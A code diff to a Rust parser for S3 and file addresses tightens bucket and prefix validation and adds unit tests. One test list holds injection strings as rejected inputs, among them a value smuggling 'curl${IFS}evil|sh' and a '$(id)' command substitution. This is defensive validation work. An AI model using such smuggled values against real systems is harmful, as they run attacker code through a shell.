@@ -196,8 +196,11 @@ impl Address {
                 let is_plain = |c: char| c.is_ascii_alphanumeric() || ".-_".contains(c);
                 let prefix = prefix.trim_end_matches('/');
                 let is_sound = |s: &str| !s.is_empty() && s != "." && s != "..";
-                if bucket.is_empty() || !bucket.chars().all(is_plain) {
+                if bucket.is_empty() || bucket.starts_with('-') || !bucket.chars().all(is_plain) {
                     return Err(format!("the address {url:?} names no bucket"));
+                }
+                if !prefix.chars().all(|c| is_plain(c) || c == '/') {
+                    return Err(format!("the prefix in {url:?} has to be made of letters, digits and . _ - /"));
                 }
                 if !prefix.is_empty() && !prefix.split('/').all(is_sound) {
                     return Err(format!("the address {url:?} has an empty or relative segment"));
@@ -217,10 +220,14 @@ mod tests {
     fn an_address_is_a_bucket_or_an_absolute_directory() {
         let s3 = |bucket: &str, prefix: &str| Ok(Address::S3 { bucket: bucket.into(), prefix: prefix.into() });
         assert_eq!(Address::parse("s3://b/p/q/"), s3("b", "p/q"));
+        assert_eq!(Address::parse("s3://b/p_1/q-2.3"), s3("b", "p_1/q-2.3"));
         assert_eq!(Address::parse("s3://b"), s3("b", ""));
         assert_eq!(Address::parse("file:///srv/x"), Ok(Address::Directory("/srv/x".into())));
         for bad in ["file://srv/x", "s3://", "s3://b/../c", "s3://b//c", "ftp://x", "/srv", "s3://u:p@b/x", "s3://b c"]
         {
+            assert!(Address::parse(bad).is_err(), "{bad}");
+        }
+        for bad in ["s3://b/x';curl${IFS}evil|sh;'", "s3://b/\"x", "s3://b/$(id)", "s3://b/größe", "s3://-b/x"] {
             assert!(Address::parse(bad).is_err(), "{bad}");
         }
     }
